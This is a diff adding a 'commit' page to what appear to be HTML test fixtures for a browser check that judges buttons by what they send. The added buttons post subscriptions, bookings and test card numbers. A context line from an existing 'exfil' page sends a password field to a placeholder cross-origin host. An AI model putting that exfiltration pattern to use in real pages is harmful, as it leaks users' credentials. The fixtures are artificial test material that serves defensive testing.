@@ -179,6 +179,22 @@ PAGES["exfil"] = _SCRIPT + f"""<title>Vault</title><h1>Vault</h1><p>Your recover
 <button id="post-huge" onclick="send('/api/notes', {{method: 'POST', body: 'pad=' + 'x'.repeat(1200000)}})">Upload</button>
 <button id="post-pw" onclick="send('CROSS/api/notes', {{method: 'POST', mode: 'no-cors', body: 'n=' + encodeURIComponent(pw.value)}})">Next</button>
 <p>Status: <span id="status">idle</span></p>"""
+PAGES["commit"] = _SCRIPT + """<title>Plans</title><h1>Plans</h1>
+<button id="subscribe" onclick="send('/api/subscriptions', {method: 'POST', headers: {'content-type': 'application/json'},
+  body: JSON.stringify({plan: 'pro', period: 'year'})})">Subscribe</button>
+<button id="signup-plan" onclick="send('/api/v2/subscribe', {method: 'POST', body: 'plan=team'})">Sign up for plan</button>
+<form method="post" action="/bookings/new"><input name="room" value="double"><button id="place-booking">Place booking</button></form>
+<button id="book-now" onclick="send('/api/reservations/confirm', {method: 'POST', body: 'slot=mon-10'})">Book now</button>
+<button id="renew" onclick="send('/api/renewals', {method: 'POST', headers: {'content-type': 'application/json'},
+  body: JSON.stringify({number: '4111 1111 1111 1111', exp: '12/29'})})">Renew</button>
+<button id="upgrade" onclick="send('/api/plan', {method: 'PUT', body: 'tier=pro&card=5555555555554444'})">Upgrade</button>
+<button id="upgrade-theme" onclick="send('/api/preferences', {method: 'POST', body: 'theme=dark'})">Upgrade</button>
+<button id="renew-loan" onclick="send('/api/loans/7/extend', {method: 'POST', body: 'days=14'})">Renew</button>
+<button id="book-slots" onclick="send('/api/slots?day=mon')">Book now</button>
+<form method="post" action="/api/members"><label>Card number <input name="card_no" autocomplete="cc-number"></label>
+  <button id="subscribe-card">Subscribe</button></form>
+<p>Status: <span id="status">idle</span></p>"""
+"""Generic commit labels (Subscribe, Book now, Renew, Upgrade …) that the label check leaves to what they send."""
 PAGES["notes-popup"] = PAGES["post"]
 """The `post` page in a popup the `popup` page opens (a script-opened window, which may close itself)."""
 WORKER_JS = "onmessage = (e) => fetch(e.data, {method: 'POST', body: 'amount=9'});"
